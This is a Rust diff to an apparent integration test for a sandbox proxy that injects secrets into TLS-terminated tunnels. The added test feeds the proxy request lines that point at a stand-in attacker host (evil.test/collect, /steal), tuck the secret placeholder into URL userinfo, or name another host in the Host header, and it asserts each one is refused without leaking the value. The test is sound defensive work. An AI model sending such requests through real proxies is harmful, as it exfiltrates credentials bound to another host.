@@ -192,6 +192,15 @@ async fn via_tunnel_to(
     extra: &str,
     authorization: &str,
 ) -> String {
+    let req = format!(
+        "GET {path} HTTP/1.1\r\nhost: {host}\r\n{extra}authorization: {authorization}\r\nconnection: close\r\n\r\n"
+    );
+    tunnel_raw(s, host, req.as_bytes()).await
+}
+
+/// CONNECT to `host` through the proxy, TLS trusting only the sandbox's CA; the TLS
+/// stream, ready for requests.
+async fn open_tunnel(s: &Setup, host: &str) -> tokio_rustls::client::TlsStream<TcpStream> {
     let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
     let connect = format!(
         "CONNECT {host}:{p} HTTP/1.1\r\nhost: {host}:{p}\r\n\r\n",
@@ -209,14 +218,16 @@ async fn via_tunnel_to(
         .unwrap()
         .with_root_certificates(roots)
         .with_no_client_auth();
-    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(cfg))
+    tokio_rustls::TlsConnector::from(Arc::new(cfg))
         .connect(ServerName::try_from(host.to_string()).unwrap(), tcp)
         .await
-        .expect("the proxy's leaf verifies against the sandbox's CA");
-    let req = format!(
-        "GET {path} HTTP/1.1\r\nhost: {host}\r\n{extra}authorization: {authorization}\r\nconnection: close\r\n\r\n"
-    );
-    tls.write_all(req.as_bytes()).await.unwrap();
+        .expect("the proxy's leaf verifies against the sandbox's CA")
+}
+
+/// `raw` sent as it is inside a tunnel to `host`; the whole answer.
+async fn tunnel_raw(s: &Setup, host: &str, raw: &[u8]) -> String {
+    let mut tls = open_tunnel(s, host).await;
+    tls.write_all(raw).await.unwrap();
     read_all(&mut tls).await
 }
 
@@ -356,4 +367,78 @@ async fn a_placeholder_in_cleartext_inside_an_opaque_tunnel_is_refused() {
     assert!(sum
         .denied_hosts
         .contains(&format!("plain.test:{}", s.up.port())));
+}
+
+/// The tunnel was decided for up.test, and the secret is bound to it: a request inside
+/// that names another authority (absolute-form, userinfo, `Host`) would reach another
+/// virtual host behind the same address with the value. Refused before anything leaves;
+/// the tunnel's own host in absolute-form goes origin-form.
+#[tokio::test]
+async fn a_request_naming_another_host_inside_a_terminated_tunnel_is_refused() {
+    let s = setup(true).await;
+    let p = placeholder(&s.edge, "TOKEN");
+    let port = s.up.port();
+    let auth = format!("authorization: Bearer {p}\r\nconnection: close\r\n\r\n");
+    for (line, host) in [
+        (
+            "GET https://evil.test/collect HTTP/1.1".to_string(),
+            "up.test".to_string(),
+        ),
+        (
+            format!("GET https://evil.test:{port}/collect HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            format!("GET https://user:{p}@evil.test/steal HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            format!("GET https://user:{p}@up.test:{port}/steal HTTP/1.1"),
+            "up.test".into(),
+        ),
+        (
+            "GET https://up.test/443-is-not-this-port HTTP/1.1".into(),
+            "up.test".into(),
+        ),
+        (
+            format!("GET http://up.test:{port}/x HTTP/1.1"),
+            "up.test".into(),
+        ),
+        ("GET * HTTP/1.1".into(), "up.test".into()),
+        (format!("GET up.test:{port} HTTP/1.1"), "up.test".into()),
+        ("GET /x HTTP/1.1".into(), "evil.test".into()),
+        ("GET /x HTTP/1.1".into(), format!("{p}@up.test")),
+    ] {
+        let req = format!("{line}\r\nhost: {host}\r\n{auth}");
+        let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
+        assert!(
+            got.starts_with("HTTP/1.1 403") || got.starts_with("HTTP/1.1 400"),
+            "{line} / {host}: {got}"
+        );
+        if got.starts_with("HTTP/1.1 403") {
+            assert!(got.contains("SBX_E2419"), "{line}: {got}");
+        }
+        assert!(!got.contains(VALUE), "{got}");
+    }
+    assert!(
+        s.seen.lock().unwrap().is_empty(),
+        "a request naming another host went upstream: {:?}",
+        s.seen.lock().unwrap()
+    );
+    // The tunnel's own authority in absolute-form (any case): sent origin-form, injected.
+    let req = format!("GET https://UP.test:{port}/mine?q=1 HTTP/1.1\r\nhost: up.test\r\n{auth}");
+    let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
+    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
+    let heads = s.seen.lock().unwrap().clone();
+    assert_eq!(heads.len(), 1, "{heads:?}");
+    assert!(
+        heads[0].starts_with("GET /mine?q=1 HTTP/1.1\r\n"),
+        "{heads:?}"
+    );
+    assert!(
+        heads[0].contains(&format!("host: up.test:{port}")),
+        "{heads:?}"
+    );
+    assert!(heads[0].contains(VALUE), "{heads:?}");
+    assert!(s.proxy.summary().denials >= 8, "{:?}", s.proxy.summary());
 }
